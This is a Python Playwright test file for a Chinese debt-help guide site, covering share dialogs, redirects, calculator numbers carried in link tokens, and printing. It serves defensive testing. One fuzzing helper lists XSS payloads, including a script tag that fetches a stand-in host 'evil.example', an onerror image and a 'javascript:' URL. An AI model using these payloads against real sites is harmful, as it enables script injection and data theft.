"""A step, sent to a friend; addresses that never break; numbers that travel only when asked."""

import json
import random
import re
import shutil
import string
import subprocess
from pathlib import Path

import pytest
from filling import begin, section, wait_live
from lines import Log, serve
from playwright.sync_api import Page, expect

import calculators
from scripts import browsers, building, checks, postbuild, runtime, serving

STEP = "steps/contact/#contact-ask"
TOOL = "tools/overdue-cost/"
LONGEST = 500  # characters
FRIEND = "发给朋友"


def tool(name: str) -> str:
    return f"tools/{name.replace('_', '-')}/"


def share(page: Page, place: str) -> None:
    page.locator(f"{place} .share").first.click()
    expect(page.locator(".share-dialog")).to_be_visible()


def press(page: Page, words: str) -> None:
    page.get_by_role("button", name=words, exact=True).click()


def told(page: Page):
    return page.locator(".share-told")


def box(page: Page) -> str:
    return page.locator(".share-dialog textarea").input_value()


def clipboard(page: Page) -> str:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    return page.evaluate("navigator.clipboard.readText()")


# Addresses ---------------------------------------------------------------------------------------------


MOVES = {
    "/stages/call/": "/steps/contact/",
    "/old.html": "/start/#first-call",
    "/steps/contact/#contact-questions": "/steps/contact/#contact-ask",
    "/tools/overdue-cost/#late-cost": "/tools/overdue-cost/#overdue-cost",
    "/start/#call": "/steps/contact/#contact-ask",
}


@pytest.fixture(scope="module")
def moved_site(site, tmp_path_factory):
    """The site after some addresses have moved."""
    moved = tmp_path_factory.mktemp("moved") / "site"
    shutil.copytree(site, moved)
    postbuild.redirect(moved, MOVES)
    (script,) = (moved / "assets" / "js").glob("site.*.js")
    ids = {old[1:]: new[1:] for old, new in MOVES.items() if "#" in old}
    text = script.read_text("utf-8").replace("const MOVED = {};", f"const MOVED = {json.dumps(ids)};")
    for old in script.parent.glob(script.name + "*"):
        old.unlink()
    script.write_text(text, "utf-8")
    return moved


LED_ON = [
    ("stages/call/", "steps/contact/"),
    ("stages/call/#contact-note", "steps/contact/#contact-note"),
    ("stages/call/#contact-questions", "steps/contact/#contact-ask"),
    ("old.html", "start/#first-call"),
    ("old.html#food-money", "start/#food-money"),
    ("steps/contact/#contact-questions", "steps/contact/#contact-ask"),
    ("start/#call", "steps/contact/#contact-ask"),
]


@pytest.mark.parametrize("prefix", ["/", "/guide/"])
def test_an_old_address_leads_on_with_its_id(moved_site, open_page, prefix):
    with serve(serving.application(moved_site, prefix), prefix) as base:
        page = open_page(base)
        for old, new in LED_ON:
            page.goto("about:blank")
            page.goto(base + old)
            page.wait_for_url(base + new)
            expect(page.locator("h1")).to_be_attached()
            if "#" in new:
                expect(page.locator(f"#{new.split('#')[1]}")).to_be_in_viewport()


def test_an_old_address_takes_the_numbers_along(moved_site, open_page):
    with serve(serving.application(moved_site)) as base:
        token = token_of(open_page(base + TOOL), "overdue_cost", {"fee": "77"})
        page = open_page(f"{base}{TOOL}#late-cost~{token}")
        expect(page.locator("[name=fee]")).to_have_value("77")
        assert page.url == f"{base}{TOOL}#overdue-cost"


def test_an_old_page_leads_on_without_script(moved_site, open_page):
    with serve(serving.application(moved_site)) as base:
        page = open_page(base + "stages/call/", java_script_enabled=False)
        page.wait_for_url(base + "steps/contact/")


# Sending -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", ["/", "/guide/"])
def test_a_step_can_be_sent(site, open_page, prefix):
    with serve(serving.application(site, prefix), prefix) as base:
        page = open_page(base + "steps/contact/?from=chat")
        link = base + STEP
        share(page, "#contact-ask")
        dialog = page.locator(".share-dialog")
        expect(dialog.locator(".share-say")).to_have_text(page.locator("#contact-ask").get_attribute("data-say"))
        expect(dialog.locator(".share-address")).to_have_text(link)
        press(page, "复制链接")
        expect(told(page)).to_have_text("已复制。")
        assert clipboard(page) == link
        press(page, "复制这句话和链接")
        expect(told(page)).to_have_text("已复制。")
        assert box(page).split("\n")[1:] == [link]
        press(page, "复制这一步全文")
        expect(page.locator(".share-dialog textarea")).to_have_value(re.compile("工单号"))
        text = clipboard(page)
        assert text.startswith("3. 只问，不答应\n照着问")
        assert text.endswith("\n" + link)
        assert len(text) <= LONGEST
        assert FRIEND not in text
        assert "做完了" not in text
        page.keyboard.press("Escape")
        expect(dialog).to_be_hidden()
        expect(page.locator("#contact-ask .share")).to_be_focused()
        assert page.url == base + "steps/contact/?from=chat", "opening the dialog writes no address"


def test_the_code_is_a_picture_that_holds_the_address(base, open_page):
    page = open_page(base + "steps/contact/")
    share(page, "#contact-ask")
    image = page.locator(".share-code img")
    expect(image).to_have_js_property("complete", True)
    expect(page.locator(".share-code img")).not_to_have_js_property("naturalWidth", 0)
    seen = image.bounding_box()
    assert min(seen["width"], seen["height"]) >= 200
    assert image.get_attribute("src").startswith("data:image/png")
    # The picture as it is shown, module by module, against the library's own drawing of the address.
    modules = page.evaluate(
        """async ([link, library]) => {
          const { encode } = await import(library);
          const { data, size } = encode(link, { ecc: 'M', border: 4 });
          const image = document.querySelector('.share-code img');
          const ink = Object.assign(document.createElement('canvas'), { width: 960, height: 960 })
            .getContext('2d', { willReadFrequently: true });
          ink.drawImage(image, 0, 0, 960, 960);
          const step = 960 / size;
          const at = (x, y) => ink.getImageData((x + 0.5) * step, (y + 0.5) * step, 1, 1).data[0] < 128;
          return { size, wrong: data.flatMap((row, y) => row.filter((dark, x) => dark !== at(x, y))).length };
        }""",
        [base + STEP, "/assets/js/" + library(building.SITE)],
    )
    assert modules["size"] > 21
    assert modules["wrong"] == 0


def library(site: Path) -> str:
    (found,) = (site / "assets" / "js").glob("uqr.*.js")
    return found.name


def test_the_library_for_the_code_waits_until_it_is_needed(site, open_page):
    log = Log(site)
    with serve(log) as base:
        page = open_page(base + "steps/contact/")
        page.wait_for_load_state("networkidle")
        assert not [path for path in log.asked if "uqr" in path]
        share(page, "#contact-ask")
        expect(page.locator(".share-code img")).not_to_have_js_property("naturalWidth", 0)
        assert len([path for path in log.asked if "uqr" in path]) == 1


def test_without_the_library_the_address_still_stands_there(site, open_page):
    log = Log(site)

    def missing(environ, start_response):
        start_response("404 Not Found", [("Content-Type", "text/plain")])
        return [b""]

    log.instead[library(site)] = missing
    with serve(log) as base:
        page = open_page(base + "steps/contact/")
        share(page, "#contact-ask")
        expect(page.locator(".share-code")).to_have_text("二维码没有画出来。下面的地址一样能用。")
        expect(page.locator(".share-address")).to_have_text(base + STEP)
        page.complaints.clear()  # the browser reports the 404 itself


def test_a_page_is_sent_with_its_own_description_and_without_an_id(base, open_page):
    page = open_page(base + "start/")
    share(page, "h1")
    description = page.locator("meta[name=description]").get_attribute("content")
    expect(page.locator(".share-say")).to_have_text(description)
    expect(page.locator(".share-address")).to_have_text(base + "start/")
    expect(page.get_by_role("button", name="复制这一步全文")).to_have_count(0)


def test_every_step_fits_into_a_message(site, base, open_page):
    paths = [p for p in site.rglob("index.html") if 'class="step"' in p.read_text("utf-8")]
    assert paths
    page = open_page(base, save_data=True)
    for path in paths:
        page.goto(base + path.parent.relative_to(site).as_posix() + "/")
        texts = page.evaluate(
            """() => [...document.querySelectorAll('.step .share')].map((control) => {
              control.click();
              const dialog = document.querySelector('.share-dialog');
              [...dialog.querySelectorAll('button')].find((each) => each.textContent === '复制这一步全文').click();
              const text = dialog.querySelector('textarea').value;
              dialog.close();
              return [text, control.href, control.closest('.step').firstChild.textContent];
            })"""
        )
        assert texts
        for text, link, title in texts:
            assert len(text) <= LONGEST
            assert text.startswith(title + "\n")
            assert text.endswith("\n" + link)


def test_a_step_that_is_too_long_is_cut_after_a_sentence_and_says_so(base, open_page):
    page = open_page(base + "steps/contact/")
    page.locator("#contact-ask + p").evaluate("(e) => { e.textContent = '先问清楚，再答复。'.repeat(80); }")
    share(page, "#contact-ask")
    press(page, "复制这一步全文")
    expect(told(page)).to_have_text("已复制。这一步太长，只放进了前面一部分，后面接着链接。")
    text = box(page)
    assert LONGEST - 30 < len(text) <= LONGEST
    assert text.endswith(f"再答复。\n（没有放完，后面的在这里：）\n{base}{STEP}")


REFUSED = """
  navigator.clipboard.writeText = () => Promise.reject(new Error('refused'));
  document.execCommand = () => false;
"""


def test_a_refused_clipboard_is_never_called_a_success(base, open_page):
    page = open_page(base + "steps/contact/")
    page.add_init_script(REFUSED)
    page.reload()
    share(page, "#contact-ask")
    for words in ("复制链接", "复制这句话和链接", "复制这一步全文"):
        press(page, words)
        expect(told(page)).to_contain_text("这里不能自动复制。文字已经选中")
        assert "已复制" not in told(page).inner_text()
        chosen = page.evaluate("((e) => e.value.slice(e.selectionStart, e.selectionEnd))(document.activeElement)")
        assert chosen == box(page)


def test_without_the_newer_clipboard_the_older_one_copies(base, open_page):
    page = open_page(base + "steps/contact/")
    page.add_init_script("Object.defineProperty(navigator, 'clipboard', { value: undefined });")
    page.reload()
    share(page, "#contact-ask")
    press(page, "复制链接")
    expect(told(page)).to_have_text("已复制。")


@pytest.mark.parametrize(
    ("outcome", "words"),
    [
        ("Promise.resolve()", ""),
        ("Promise.reject(new DOMException('', 'AbortError'))", ""),
        ("Promise.reject(new DOMException('', 'NotAllowedError'))", "没有打开系统的分享。请复制链接。"),
    ],
)
def test_the_systems_share_sheet_is_offered_where_there_is_one(base, open_page, outcome, words):
    page = open_page(base + "steps/contact/")
    page.add_init_script(f"navigator.share = (data) => {{ window.shared = data; return {outcome}; }};")
    page.reload()
    share(page, "#contact-ask")
    press(page, "系统分享…")
    shared = page.evaluate("window.shared")
    assert shared["url"] == base + STEP
    assert shared["text"] == page.locator("#contact-ask").get_attribute("data-say")
    expect(told(page)).to_have_text(words)


def test_without_a_share_sheet_there_is_no_button_for_it(base, open_page):
    page = open_page(base + "steps/contact/")
    page.add_init_script("delete Navigator.prototype.share;")
    page.reload()
    share(page, "#contact-ask")
    expect(page.get_by_role("button", name="系统分享…")).to_have_count(0)


IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
# How apps are told is the matter of tests/unit; here one that is known by its name, and one by the system's word.
IN_APP = [
    "Mozilla/5.0 (Linux; Android 13) AppleWebKit/537.36 Chrome/107 Mobile Safari/537.36 MicroMessenger/8.0.50",
    IPHONE + "Mobile/15E148 SomeApp/1.0",
]


@pytest.mark.parametrize("agent", IN_APP)
def test_inside_an_app_its_own_forwarding_gets_the_step(base, open_page, agent):
    page = open_page(base + "steps/contact/", user_agent=agent)
    share(page, "#contact-ask")
    expect(page.locator(".share-dialog")).to_contain_text("右上角的“…”")
    assert page.url == base + STEP
    page.keyboard.press("Escape")
    share(page, "h1")
    assert page.url == base + "steps/contact/"


def test_where_nothing_can_be_kept_sending_works_the_same(base, browser):
    context = browser.new_context(viewport={"width": 360, "height": 780})
    context.add_init_script("for (const name of ['localStorage', 'sessionStorage']) Object.defineProperty(window, name,"
                            " { get() { throw new Error('blocked'); } })")  # fmt: skip
    page = context.new_page()
    page.goto(base + STEP)
    expect(page.locator(".landing")).to_be_visible()
    share(page, "#contact-ask")
    press(page, "复制链接")
    expect(told(page)).to_have_text("已复制。")
    context.close()


def test_a_browser_without_dialogs_shows_it_in_the_page(base, open_page):
    page = open_page(base + "steps/contact/")
    page.add_init_script("delete HTMLDialogElement.prototype.showModal;")
    page.reload()
    share(page, "#contact-ask")
    press(page, "复制链接")
    expect(told(page)).to_have_text("已复制。")
    press(page, "关闭")
    expect(page.locator(".share-dialog")).to_have_count(0)
    expect(page.locator("#contact-ask .share")).to_be_focused()


def test_without_script_a_control_is_a_link_to_its_step(base, open_page):
    page = open_page(base + "steps/contact/", java_script_enabled=False)
    page.locator("#contact-ask .share").click()
    assert page.url == base + STEP


@pytest.mark.parametrize("width", [320, 360])
def test_the_dialog_stays_within_a_small_screen(base, open_page, width):
    page = open_page(base + TOOL, viewport={"width": width, "height": 640})
    share(page, ".share-tool")
    expect(page.locator(".share-code img")).not_to_have_js_property("naturalWidth", 0)
    assert page.locator(".share-dialog").evaluate("(e) => e.scrollWidth <= e.clientWidth")
    assert page.locator(".share-dialog").bounding_box()["width"] <= width
    page.locator(".share-address").scroll_into_view_if_needed()
    expect(page.locator(".share-address")).to_be_in_viewport()


# Arriving ----------------------------------------------------------------------------------------------


def test_who_lands_in_the_middle_of_a_stage_is_told_where(base, open_page):
    page = open_page(base + STEP)
    strip = page.locator(".landing")
    expect(strip).to_contain_text("第 3 步，共 8 步：先联系客服")
    expect(strip).to_be_in_viewport(ratio=1)
    expect(page.locator("#contact-ask")).to_be_in_viewport()
    assert strip.bounding_box()["y"] >= page.locator(".md-header").bounding_box()["height"]
    strip.get_by_text("看全部八步").click()
    page.wait_for_url(base + "steps/")
    page.go_back()
    page.locator(".landing").get_by_text("这个网站是什么").click()
    page.wait_for_url(base + "about/privacy/")


def test_who_lands_in_the_middle_of_another_page_is_told_its_title(base, open_page):
    page = open_page(base + "start/#first-call")
    expect(page.locator(".landing")).to_contain_text("你在看“十分钟先止损”里的一段")
    page.locator(".landing").get_by_text("从头看这一页").click()
    expect(page.locator("h1")).to_be_in_viewport()


@pytest.mark.parametrize("address", ["steps/contact/", "steps/contact/#contact-service", "steps/contact/#nothing"])
def test_who_comes_to_the_top_needs_no_telling(base, open_page, address):
    page = open_page(base + address)
    page.wait_for_load_state("networkidle")
    expect(page.locator(".landing")).to_have_count(0)


def test_who_comes_from_another_page_of_the_guide_knows_where_they_are(base, open_page):
    page = open_page(base + "steps/take-stock/")
    page.locator("article a[href$='#food-money']").first.click()
    page.wait_for_url("**/start/#food-money")
    page.wait_for_load_state("networkidle")
    expect(page.locator(".landing")).to_have_count(0)


# Numbers -----------------------------------------------------------------------------------------------


def fnv(text: str) -> int:
    total = 0x811C9DC5
    for sign in text:
        total = (total ^ ord(sign)) * 0x01000193 & 0xFFFFFFFF
    return total


def sealed(name: str, body: str) -> str:
    """A token as the page makes it: hostile ones must get past the seal, too."""
    total = fnv(f"{name}~{body}")
    mixed = total ^ total >> 12
    return body + "".join("0123456789abcdefghjkmnpqrstvwxyz"[mixed >> bits & 31] for bits in (0, 5, 10, 15))


def travels(name: str, typed: dict[str, str] | None = None) -> dict:
    form = calculators.get(name).form(typed or {})
    answer = json.loads(calculators.answer(name, json.dumps(form)))
    assert answer["errors"] == {}
    return answer["travels"]


def link_with(page: Page, detail: dict) -> str:
    """The link that the page's own button makes of an answer; ``""`` where it makes none."""
    return section(page).evaluate(
        """async (section, travels) => {
          section.dataset.state = 'live';
          section.dataset.mine = '';
          section.querySelector('[data-result]').removeAttribute('data-as-given');
          const detail = { errors: {}, travels, gives: {} };
          section.dispatchEvent(new CustomEvent('answered', { bubbles: true, detail }));
          section.querySelector('.share').click();
          const dialog = document.querySelector('.share-dialog');
          [...dialog.querySelectorAll('button')].find((each) => each.textContent === '复制带我的数字的链接').click();
          const link = dialog.querySelector('textarea').value;
          dialog.close();
          return link.includes('~') ? link : '';
        }""",
        detail,
    )


def token_of(page: Page, name: str, typed: dict[str, str]) -> str:
    return link_with(page, travels(name, typed)).partition("~")[2]


def shown(page: Page) -> dict:
    """The form in the page, as ``travels`` has it, with what must not travel left in."""
    form = section(page).evaluate("(e) => Object.fromEntries(new FormData(e.querySelector('form')))")
    got: dict = {}
    for key, text in form.items():
        name, *rest = key.split(".")
        if len(rest) == 2:
            got.setdefault(name, {}).setdefault(int(rest[0]), {})[rest[1]] = text
        else:
            got[key] = text
    return {k: [v[i] for i in sorted(v)] if isinstance(v, dict) else v for k, v in got.items()}


def by_day(row: dict) -> str:
    """The first day of a row: rows arrive in the order of their days."""
    return next((text for text in row.values() if re.fullmatch(r"\d{4}-\d\d-\d\d", text)), "")


def arrives(page: Page, detail: dict) -> None:
    got = shown(page)
    for name, value in detail.items():
        if isinstance(value, list):
            rows = got.get(name, [])
            wanted = sorted(value, key=by_day)
            assert [{k: row[k] for k in one} for row, one in zip(rows, wanted, strict=True)] == wanted
        else:
            assert got[name] == value


def test_numbers_travel_by_clicking(base, open_page):
    page = open_page(base + TOOL)
    begin(page)
    page.locator("[name='bills.0.amount']").fill("1万2千")
    page.locator("[name=daily_rate]").fill("万分之四点五")
    page.locator("[name='daily_rate.confirmed']").check()
    page.get_by_role("button", name="再加一张账单").click()
    page.locator("[name='bills.1.due']").fill("2026年10月10日")
    page.locator("[name='bills.1.amount']").fill("345.60")
    wait_live(page)
    expect(page.locator(".calc-headline")).to_contain_text("12,")
    page.locator(".calc-working summary").last.click()
    expect(page.locator(".calc-working").last).to_contain_text("345.60")
    assert page.url == base + TOOL, "typing writes no address"
    share(page, ".share-tool")
    expect(page.locator(".share-dialog")).to_contain_text("带数字的链接，带上的是：算到哪一天")
    press(page, "复制空白链接")
    expect(told(page)).to_have_text("已复制。")
    assert box(page) == f"{base}{TOOL}#overdue-cost"
    press(page, "复制带我的数字的链接")
    expect(page.locator(".share-dialog textarea")).to_have_value(re.compile("~"))
    link = box(page)
    assert re.fullmatch(re.escape(f"{base}{TOOL}#overdue-cost~") + r"1[\w-]+[0-9a-z]", link)
    assert page.url == base + TOOL
    friend = open_page(link)
    wait_live(friend)
    assert friend.url == f"{base}{TOOL}#overdue-cost"
    assert friend.locator("[name='bills.0.amount']").input_value() == "12000"
    assert friend.locator("[name='bills.1.due']").input_value() == "2026-10-10"
    assert friend.locator("[name='bills.1.amount']").input_value() == "345.60"
    assert friend.locator("[name=daily_rate]").input_value() == "0.045%"
    assert not friend.locator("[name='daily_rate.confirmed']").is_checked(), "a tick is the reader's own to make"
    expect(friend.locator(".share-arrived")).to_contain_text("不是你填的")
    expect(friend.locator(".calc-headline")).to_have_text(page.locator(".calc-headline").inner_text())
    friend.reload()
    assert friend.locator("[name='bills.0.amount']").input_value() == "2000", "what was read is not kept anywhere"


def test_numbers_are_asked_for_before_they_travel(base, open_page):
    page = open_page(base + TOOL)
    share(page, ".share-tool")
    press(page, "复制带我的数字的链接")
    expect(told(page)).to_contain_text("还没有按你的数算过")
    page.keyboard.press("Escape")
    page.locator(".calc-submit").click()
    wait_live(page)
    share(page, ".share-tool")
    press(page, "复制带我的数字的链接")
    expect(told(page)).to_contain_text("还没有按你的数算过")  # what was worked out is the example's
    page.keyboard.press("Escape")
    begin(page)
    page.locator("[name=fee]").evaluate("(e) => e.closest('details').open = true")
    page.locator("[name=fee]").fill("abc")
    page.locator(".calc-submit").click()
    expect(page.locator(".calc-error:visible")).to_have_count(1)
    share(page, ".share-tool")
    press(page, "复制带我的数字的链接")
    expect(told(page)).to_contain_text("还有要改的地方")


@pytest.mark.parametrize("name", [name for name in calculators.SHELF if name != "contact_log"])  # nothing of it travels
def test_a_case_of_each_calculator_arrives_as_it_was_sent(base, open_page, name):
    page = open_page(base + tool(name), save_data=True)
    # The one that says most: its way through a form in the page. All cases: tests/unit/test_token.py.
    forms = [case["form"] for case in checks.cases(name) if "errors" not in case]
    detail = max((travels(name, form) for form in forms), key=lambda form: len(json.dumps(form)))
    link = link_with(page, detail)
    assert len(link.partition("~")[2]) <= LONGEST
    page.evaluate("(hash) => new Promise((done) => { addEventListener('hashchange', done, { once: true });"
                  " location.hash = hash; })", link.partition("#")[2])  # fmt: skip
    arrives(page, detail)
    assert "~" not in page.url


def test_what_does_not_fit_into_a_link_is_said(base, open_page):
    page = open_page(base + TOOL, save_data=True)
    # Past what its own form takes: no such link is made, but should one be wanted, the reader hears why not.
    bills = [{"due": f"20{year}-{month:02}-09", "amount": "9" * 30} for year in (25, 26, 27) for month in range(1, 13)]
    detail = travels("overdue_cost") | {"bills": bills}
    assert link_with(page, detail) == ""
    share(page, ".share-tool")
    press(page, "复制带我的数字的链接")
    expect(told(page)).to_contain_text("一个链接放不下")


def test_own_words_cause_and_health_never_travel(base, open_page):
    letter = open_page(base + tool("request_letter"))
    for stays in ("cause", "words", "since", "income_before", "income_now"):
        expect(letter.locator(f"[name={stays}]")).to_have_attribute("data-stays", "")
    share(letter, ".share-tool")
    expect(letter.locator(".share-dialog")).to_contain_text("不带：为什么还不上")


def test_the_log_can_be_sent_empty_only(base, open_page):
    page = open_page(base + tool("contact_log"))
    share(page, ".share-tool")
    expect(page.locator(".share-buttons button").first).to_have_text("复制空白链接")
    expect(page.get_by_role("button", name="复制带我的数字的链接")).to_have_count(0)


def test_names_of_debts_are_replaced_by_numbers(base, open_page):
    page = open_page(base + tool("affordability"))
    detail = travels("affordability", {"debts.0.name": "张三", "debts.0.balance": "3000", "debts.1.name": "花呗",
                                       "debts.1.balance": "500", "debts.1.huabei": "yes"})  # fmt: skip
    assert "张三" not in json.dumps(detail, ensure_ascii=False)
    friend = open_page(link_with(page, detail))
    wait_live(friend)
    assert [row["name"] for row in shown(friend)["debts"]] == ["欠款 1", "欠款 2"]
    expect(friend.locator(".share-arrived")).to_contain_text("名称没有带过来")


def test_numbers_that_arrive_are_read_like_typed_ones(base, open_page):
    page = open_page(base + TOOL)
    detail = travels("overdue_cost") | {"daily_rate": "50%", "bills": [{"due": "1999-01-01", "amount": "0"}]}
    friend = open_page(link_with(page, detail))
    wait_live(friend)
    expect(friend.locator(".calc-error:visible")).to_have_count(3)
    assert friend.locator("[name=daily_rate]").input_value() == "50%"
    expect(friend.locator(".calc-result")).to_be_empty()


def example_stays(page: Page, words: str) -> None:
    expect(page.locator(".share-arrived")).to_contain_text(words)
    assert "~" not in page.url
    assert page.locator("[name='bills.0.amount']").input_value() == "2000"
    assert section(page).get_attribute("data-state") == "example"


def test_a_token_of_another_version_or_a_broken_one_says_so_and_leaves_the_example(base, open_page):
    for bad, words in (("9", "另一版"), ("1abcdefgh", "转发时断了")):
        friend = open_page(f"{base}{TOOL}#overdue-cost~{bad}", save_data=True)
        example_stays(friend, words)
        friend.context.close()


def test_numbers_arrive_as_chat_apps_write_them_and_leave_the_address(site, open_page):
    # Which address is meant, however it is written and under any path: tests/unit/test_arrival.py.
    with serve(serving.application(site, "/guide/"), "/guide/") as base:
        token = token_of(open_page(base + TOOL, save_data=True), "overdue_cost", {"fee": "12"})
        for link in (
            f"{TOOL}#overdue-cost～{token}。看看这个",
            f"{TOOL}?from=a%23overdue-cost~{token}#wechat_redirect",
            f"{TOOL}%23overdue-cost%7E{token}%E3%80%82",
        ):
            friend = open_page(base + link)
            expect(friend.locator("[name=fee]")).to_have_value("12")
            assert friend.url == f"{base}{TOOL}#overdue-cost", link
            assert token not in friend.evaluate("document.referrer")
            friend.go_back()  # to the empty page before it: nothing of the numbers is left to go back to
            assert friend.url == "about:blank"
            friend.complaints.clear()  # the browser reports the 404 of an address that had its # written otherwise


def test_a_step_arrives_with_a_full_stop_stuck_to_it(base, open_page):
    for more in ("。", "%E3%80%82看看", "?from=timeline"):
        friend = open_page(base + STEP + more)
        expect(friend.locator(".landing")).to_contain_text("第 3 步，共 8 步")
        expect(friend.locator("#contact-ask")).to_be_in_viewport()
        assert friend.url == base + STEP


def test_a_missing_page_keeps_no_numbers_in_its_address(base, open_page):
    page = open_page(base + "nothing/?overdue-cost~1abcdefg")
    page.wait_for_url(base + "nothing/")
    expect(page.locator("h1")).to_have_text("没有这一页")
    page.complaints.clear()


def test_a_token_for_a_calculator_that_is_not_here_says_so(base, open_page):
    page = open_page(base + "start/#overdue-cost~1abc")
    expect(page.locator(".share-arrived")).to_contain_text("不在这一页")
    assert page.url == base + "start/"


def hostile(good: str) -> list[str]:
    """A hundred tokens: noise, markup, broken, forged and a few good ones, the same each time.

    Four thousand more, without a page: tests/unit/test_token.py.
    """
    chance = random.Random(5)
    safe = string.ascii_letters + string.digits + "-_"
    anything = safe + "<>\"'&;:/?#%~.= \\()[]{}$`，。\u0000\u202e😀"
    markup = [
        "<img src=//evil.example/x onerror=alert(1)>",
        '"><script>fetch("//evil.example")</script>',
        "javascript:alert(1)",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "%",
        "%E0%A4%A",
        "__proto__",
        "constructor~constructor",
        "1" + "_" * 499,
    ]
    tokens = [*markup, good, good]
    while len(tokens) < 100:
        kind, length = len(tokens) % 5, chance.randrange(1, 120)
        body = "1" + "".join(chance.choice(safe) for _ in range(length))
        if kind == 0:
            tokens.append("".join(chance.choice(anything) for _ in range(length)))
        elif kind == 1:
            tokens.append(sealed("overdue_cost", body))
        elif kind == 2:
            # A real one with a few signs changed, sealed again: it gets as far as its fields.
            signs = list(good[:-4])
            for _ in range(chance.randrange(1, 4)):
                signs[chance.randrange(1, len(signs))] = chance.choice(safe)
            tokens.append(sealed("overdue_cost", "".join(signs)))
        elif kind == 3:
            tokens.append(good[: chance.randrange(len(good))] + chance.choice(markup))
        else:
            tokens.append(sealed("overdue_cost", good[:-4] + "".join(chance.choice(safe) for _ in range(length))))
    return tokens


# Opens each token; gives how often which words were said, and throws where anything but digits got into the page.
RECEIVE = """async (tokens) => {
  const words = {};
  for (const token of tokens) {
    document.querySelector('.share-arrived')?.remove();
    const gone = new Promise((done) => addEventListener('hashchange', done, { once: true }));
    location.hash = '#overdue-cost~' + token;
    await gone;
    if (/~|%7e/i.test(location.href)) throw new Error('still there: ' + location.href);
    const said = document.querySelector('.share-arrived').textContent.slice(0, 30);
    words[said] = (words[said] ?? 0) + 1;
    const strange = 'script, img, iframe, object, embed, style, link, svg *, [onerror], [onload]';
    if (document.querySelector(`.calc form :is(${strange}), .share-arrived *`)) throw new Error(token);
    for (const control of document.querySelectorAll('.calc input[type=text]')) {
      if (!/^[0-9.%-]*$/.test(control.value)) throw new Error(`${control.name}: ${control.value}`);
    }
  }
  return words;
}"""


def test_a_hundred_hostile_tokens_do_nothing(site, open_page):
    log = Log(site)
    with serve(log) as base:
        page = open_page(base + TOOL, save_data=True)
        good = token_of(page, "overdue_cost", {"fee": "12", "app_interest": "99.50"})
        page.wait_for_load_state("networkidle")
        log.asked.clear()
        count = "document.querySelectorAll('*:not(.calc *):not(dialog *):not(.landing, .landing *)').length"
        before = page.evaluate(count)
        seen = page.evaluate(RECEIVE, hostile(good))
        assert sum(seen.values()) == 100
        assert len(seen) == 3, "some are broken, some of another version, and the good ones arrive"
        assert page.evaluate(count) == before
        assert [path for path in log.asked if "/assets/" not in path] == []
        assert not [path for path in log.asked if "~" in path or "evil" in path]


# Paper -------------------------------------------------------------------------------------------------


# A stage; a result with a table and a picture, the one with most columns, and papers.
PRINTED = ("steps/contact/", TOOL, tool("plan_check"), tool("request_letter"))


@pytest.mark.parametrize("address", PRINTED)
def test_a_stage_and_a_result_print_on_a4_in_any_scheme(base, open_page, address):
    page = open_page(base + address, viewport={"width": 680, "height": 980}, color_scheme="dark")
    if address.startswith("tools/"):
        page.locator(".calc-submit").click()
        wait_live(page)
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    page.emulate_media(media="print")
    for hidden in (
        ".share",
        ".calc-submit",
        ".calc-remove",
        ".md-header",
        ".md-footer",
        ".calc-static",
        ".calc-confirm",
    ):
        for each in page.locator(hidden).all():
            expect(each).to_be_hidden()
    assert page.evaluate("document.documentElement.scrollWidth") <= 680
    ink = page.locator("article p").first.evaluate("(e) => getComputedStyle(e).color")
    assert max(int(n) for n in re.findall(r"\d+", ink)[:3]) < 100, "dark ink on white paper"
    if address.startswith("tools/"):
        expect(page.locator(".calc-headline")).to_be_visible()
        expect(page.locator(".calc-status")).to_be_visible()
    assert page.pdf(prefer_css_page_size=True).startswith(b"%PDF")


# Firefox -----------------------------------------------------------------------------------------------


def test_sending_and_arriving_in_firefox(site, moved_site, open_page):
    log = Log(site)
    with serve(log) as base, serve(serving.application(moved_site)) as moved:
        good = token_of(open_page(base + TOOL, save_data=True), "overdue_cost", {"fee": "12", "app_interest": "99.50"})
        script = Path(__file__).with_name("firefox_share.mjs")
        led_on = [LED_ON[2], (f"{TOOL}#late-cost~{good}", f"{TOOL}#overdue-cost")]
        command = ["node", str(script), browsers.need("firefox"), base, moved, json.dumps(led_on)]
        done = subprocess.run(command, cwd=runtime.ROOT, capture_output=True, text=True, timeout=240)
    assert done.returncode == 0, done.stderr
    seen = json.loads(done.stdout.strip().splitlines()[-1])
    assert seen["version"].lower().startswith("firefox")
    assert "第 3 步，共 8 步：先联系客服" in seen["landing"]
    assert seen["picture"][0].startswith("data:image/")
    assert seen["picture"][1] >= 200
    assert seen["told"] in ("已复制。", "这里不能自动复制。文字已经选中，请长按它，选“复制”。")
    assert seen["text"].endswith(base + STEP)
    assert seen["blank"] == f"{base}{TOOL}#overdue-cost"
    assert re.fullmatch(re.escape(f"{base}{TOOL}#overdue-cost~") + r"1[\w-]+", seen["link"])
    assert seen["address"] == f"{base}{TOOL}#overdue-cost"
    assert seen["amount"] == "4321"
    assert "不是你填的" in seen["arrived"]
    assert seen["refused"] == base + STEP
    assert seen["paper"] == ["%PDF-", "%PDF-"]
    assert "另一版" in seen["later"]
    assert "右上角的“…”" in seen["inApp"][0]
    assert seen["inApp"][1] == base + STEP
    assert seen["moved"] == [[LED_ON[2][1], True, None], [f"{TOOL}#overdue-cost", True, "12"]]
    assert not [path for path in log.asked if "~" in path or "evil" in path]
    assert seen["complaints"] == []
